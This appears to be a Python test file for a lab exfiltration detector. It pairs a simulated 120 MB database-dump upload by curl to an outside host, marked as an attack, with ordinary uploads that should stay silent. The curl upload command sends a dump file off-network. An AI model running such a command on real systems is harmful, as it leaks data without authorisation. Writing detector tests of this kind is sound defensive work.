"""Large uploads: to the outside, to a neighbour, and both ways."""

from __future__ import annotations

import tempfile
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

from tests.lab import pods
from tests.lab.stage import Case, Stage

CAST = ("web", "client4")
SITE = pods.OUTSIDE_WEB[8]
WEB = pods.BY_NAME["web"].ip4
KEEP = 66  # headers; sizes stand in them
MEGABYTE = 1_000_000


def _jumbo(stage: Stage) -> None:
    """Frames of 9,000 bytes on the way, as many clusters have: a sixth of the packets."""
    for link in ("veth-web", "veth-client4", "br0", "eth0"):
        stage.tool("node", f"ip link set {link} mtu 9000")
    for where in ("web", "client4", pods.OUTSIDE):
        stage.tool(where, "ip link set eth0 mtu 9000")


@contextmanager
def _file(size: int) -> Iterator[Path]:
    with tempfile.TemporaryDirectory(prefix="sluicelab-", dir="/dev/shm") as folder:
        path = Path(folder) / "dump.sql"
        with path.open("wb") as file:
            file.truncate(size)
        yield path


def _upload(stage: Stage, host: str, path: Path, answer: int) -> None:
    stage.tool("client4", f"curl -sS -o /dev/null --limit-rate 12M -H Expect: -T {path} http://{host}:8080/{answer}")


def _curl(stage: Stage) -> None:
    _jumbo(stage)
    stage.server(pods.OUTSIDE, "upload 8080")
    with _file(120 * MEGABYTE) as path, stage.attack("exfiltration", "client4", SITE):
        _upload(stage, SITE, path, 100)


def _ordinary(stage: Stage) -> None:
    _jumbo(stage)
    stage.server(pods.OUTSIDE, "upload 8080")
    stage.server("web", "upload 8080")
    with _file(120 * MEGABYTE) as path:
        _upload(stage, WEB, path, 100)
    with _file(20 * MEGABYTE) as path:
        for _ in range(6):
            _upload(stage, SITE, path, 8 * MEGABYTE)
    with _file(30 * MEGABYTE) as path:
        _upload(stage, pods.OUTSIDE_WEB[9], path, 100)
    stage.silence("exfiltration", note="a backup to a neighbour, a synchronisation both ways, a small upload")


CASES = (
    Case("exfiltration", "dump_uploaded_slow", "A dump of 120 MB is uploaded by curl at 12 MB/s", _curl, pods=CAST,
         keep=KEEP, notes="the limit of 100 MB is reached 8 s after the start"),
    Case("exfiltration", "uploads", "Uploads that are no leak", _ordinary, pods=CAST, keep=KEEP),
)  # fmt: skip
